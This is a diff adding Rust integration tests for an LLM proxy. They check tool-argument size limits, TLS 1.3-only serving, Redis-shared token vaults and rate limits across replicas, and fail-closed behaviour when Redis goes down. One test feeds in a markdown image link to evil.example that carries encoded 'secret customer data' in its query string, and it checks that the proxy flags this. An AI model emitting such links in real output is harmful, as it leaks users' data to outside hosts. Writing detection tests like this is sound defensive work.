@@ -1238,3 +1238,304 @@ async fn thinking_blocks_in_history_are_forwarded_untouched() {
     p.run.stop().await;
     v.stop().await;
 }
+
+#[tokio::test]
+async fn streamed_tool_arguments_are_bounded() {
+    let (_vendor, v) = start_vendor().await;
+    let p = start_proxy(&v, |c| c.limits.max_tool_call_bytes = 64).await;
+    let mut args = ok_refund();
+    args["reason"] = json!("r".repeat(200));
+    let body = post(
+        &p.url("/v1/chat/completions"),
+        json!({"model": "tool", "stream": true,
+        "messages": [{"role": "user", "content": tool_text("issue_refund", args)}]}),
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+    assert!(body.contains("warden.arguments_too_large"), "{body}");
+    assert!(!body.contains("\"tool_calls\""), "{body}");
+    assert!(body.ends_with("data: [DONE]\n\n"));
+    p.run.stop().await;
+    v.stop().await;
+}
+
+#[tokio::test]
+async fn output_checks_flag_image_exfiltration() {
+    let (_vendor, v) = start_vendor().await;
+    let p = start_proxy(&v, |_| {}).await;
+    let exfil = "![logo](https://evil.example/p.png?q=c2VjcmV0LWN1c3RvbWVyLWRhdGEtZXhmaWx0cmF0aW9uLXBheWxvYWQ)";
+    let r = post(
+        &p.url("/v1/chat/completions"),
+        json!({"model": "echo", "messages": [{"role": "user", "content": exfil}]}),
+    )
+    .await;
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    assert!(
+        p.audit_text().contains("markdown_image_exfil"),
+        "{}",
+        p.audit_text()
+    );
+    p.run.stop().await;
+    v.stop().await;
+}
+
+#[tokio::test]
+async fn tls13_listener() {
+    let (_vendor, v) = start_vendor().await;
+    let cert = rcgen::generate_simple_self_signed(vec!["localhost".to_string()]).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let (cp, kp) = (dir.path().join("cert.pem"), dir.path().join("key.pem"));
+    std::fs::write(&cp, cert.cert.pem()).unwrap();
+    std::fs::write(&kp, cert.key_pair.serialize_pem()).unwrap();
+    let p = start_proxy(&v, |c| {
+        c.tls = Some(warden_proxy::config::TlsConfig { cert: cp, key: kp })
+    })
+    .await;
+    let ca = reqwest::Certificate::from_pem(cert.cert.pem().as_bytes()).unwrap();
+    let c13 = reqwest::Client::builder()
+        .add_root_certificate(ca.clone())
+        .resolve("localhost", p.run.addr)
+        .build()
+        .unwrap();
+    let url = format!(
+        "https://localhost:{}/v1/chat/completions",
+        p.run.addr.port()
+    );
+    let r = c13
+        .post(&url)
+        .json(&json!({"model": "echo", "messages": [{"role": "user", "content": "hi"}]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(r.version(), reqwest::Version::HTTP_2, "ALPN negotiates h2");
+    let c12 = reqwest::Client::builder()
+        .add_root_certificate(ca)
+        .resolve("localhost", p.run.addr)
+        .max_tls_version(reqwest::tls::Version::TLS_1_2)
+        .build()
+        .unwrap();
+    assert!(
+        c12.get(format!("https://localhost:{}/healthz", p.run.addr.port()))
+            .send()
+            .await
+            .is_err(),
+        "TLS 1.2 refused"
+    );
+    let plain = client()
+        .get(format!("http://{}/healthz", p.run.addr))
+        .send()
+        .await;
+    assert!(
+        plain.map(|r| !r.status().is_success()).unwrap_or(true),
+        "plain HTTP refused"
+    );
+    p.run.stop().await;
+    v.stop().await;
+}
+
+fn redis_url() -> Option<String> {
+    match std::env::var("WARDEN_TEST_REDIS_URL") {
+        Ok(u) if !u.is_empty() => Some(u),
+        _ => {
+            assert!(
+                std::env::var("WARDEN_REQUIRE_SERVICES").as_deref() != Ok("1"),
+                "WARDEN_TEST_REDIS_URL is not set but WARDEN_REQUIRE_SERVICES=1 (run: eval \"$(scripts/redis.sh start)\")"
+            );
+            eprintln!(
+                "skipped: WARDEN_TEST_REDIS_URL not set (eval \"$(scripts/redis.sh start)\")"
+            );
+            None
+        }
+    }
+}
+
+#[tokio::test]
+async fn redis_shares_vaults_and_limits_across_replicas() {
+    use sha2::Digest;
+    let Some(url) = redis_url() else { return };
+    let (_vendor, v) = start_vendor().await;
+    let id = uuid::Uuid::new_v4().simple().to_string();
+    let key_var = format!("WARDEN_TEST_TOKEN_KEY_{id}");
+    std::env::set_var(&key_var, "replica-shared-token-key-0123456789");
+    let api_key = format!("key-{id}");
+    let tweak = |c: &mut warden_proxy::Config| {
+        c.store.redis_url = Some(url.clone());
+        c.store.token_key_env = Some(key_var.clone());
+        c.limits.requests_per_minute = 4;
+        c.auth.api_keys.push(warden_proxy::config::ApiKeyConfig {
+            name: format!("replica-test-{id}"),
+            sha256: hex::encode(sha2::Sha256::digest(api_key.as_bytes())),
+            roles: vec!["support_agent".into()],
+            mfa: false,
+        });
+    };
+    let a = start_proxy(&v, tweak).await;
+    let b = start_proxy(&v, tweak).await;
+    let send = |url: String, body: Value| {
+        let k = api_key.clone();
+        async move {
+            client()
+                .post(url)
+                .bearer_auth(k)
+                .json(&body)
+                .send()
+                .await
+                .unwrap()
+        }
+    };
+    let minute = || {
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs()
+            / 60
+    };
+    let m0 = minute();
+    // Turn 1 on replica A; turn 2 on replica B only references A's response.
+    let r: Value = send(
+        a.url("/v1/responses"),
+        json!({"model": "echo", "input": format!("I am {EMAIL}")}),
+    )
+    .await
+    .json()
+    .await
+    .unwrap();
+    let token = {
+        let t = r["output"][0]["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        assert_eq!(t, format!("You said: I am {EMAIL}"));
+        let v = _vendor.last().body;
+        v["input"]
+            .as_str()
+            .unwrap()
+            .trim_start_matches("I am ")
+            .to_string()
+    };
+    let r: Value = send(
+        b.url("/v1/responses"),
+        json!({"model": "echo", "previous_response_id": r["id"], "input": format!("say {token}")}),
+    )
+    .await
+    .json()
+    .await
+    .unwrap();
+    assert_eq!(
+        r["output"][0]["content"][0]["text"],
+        format!("You said: say {EMAIL}"),
+        "vault shared through Redis"
+    );
+    // Limits hold across replicas: 4 per minute in total.
+    let body = json!({"model": "echo", "messages": [{"role": "user", "content": "hi"}]});
+    assert_eq!(
+        send(a.url("/v1/chat/completions"), body.clone())
+            .await
+            .status(),
+        200
+    );
+    assert_eq!(
+        send(b.url("/v1/chat/completions"), body.clone())
+            .await
+            .status(),
+        200
+    );
+    let r = send(a.url("/v1/chat/completions"), body.clone()).await;
+    if minute() == m0 {
+        assert_eq!(
+            r.status(),
+            429,
+            "fifth request in the minute across both replicas"
+        );
+        assert!(r.headers().contains_key("retry-after"));
+    } else {
+        eprintln!(
+            "minute rolled over during the test; the cross-replica count was not checked this run"
+        );
+    }
+    a.run.stop().await;
+    b.run.stop().await;
+    v.stop().await;
+}
+
+#[tokio::test]
+async fn redis_going_away_fails_closed() {
+    if redis_url().is_none() {
+        return;
+    }
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let dir = tempfile::tempdir().unwrap();
+    let mut child = std::process::Command::new("redis-server")
+        .args([
+            "--bind",
+            "127.0.0.1",
+            "--port",
+            &port.to_string(),
+            "--save",
+            "",
+            "--appendonly",
+            "no",
+        ])
+        .current_dir(dir.path())
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .expect("redis-server");
+    let url = format!("redis://127.0.0.1:{port}");
+    // Wait for the server to accept connections (bounded).
+    let client_r = redis::Client::open(url.as_str()).unwrap();
+    let mut ready = false;
+    for _ in 0..200 {
+        if let Ok(mut c) = client_r.get_multiplexed_async_connection().await {
+            if redis::cmd("PING")
+                .query_async::<String>(&mut c)
+                .await
+                .is_ok()
+            {
+                ready = true;
+                break;
+            }
+        }
+        tokio::task::yield_now().await;
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    assert!(ready, "private redis-server did not start");
+    let (vendor, v) = start_vendor().await;
+    let p = start_proxy(&v, |c| c.store.redis_url = Some(url.clone())).await;
+    let body = json!({"model": "echo", "messages": [{"role": "user", "content": "hi"}]});
+    assert_eq!(
+        post(&p.url("/v1/chat/completions"), body.clone())
+            .await
+            .status(),
+        200
+    );
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let before = vendor.count();
+    let r = post(&p.url("/v1/chat/completions"), body.clone()).await;
+    assert_eq!(r.status(), 503);
+    let b: Value = r.json().await.unwrap();
+    assert_eq!(b["error"]["code"], "store_unavailable", "{b}");
+    assert_eq!(
+        vendor.count(),
+        before,
+        "nothing forwarded without the store"
+    );
+    assert_eq!(
+        client()
+            .get(p.url("/readyz"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        503
+    );
+    p.run.stop().await;
+    v.stop().await;
+}
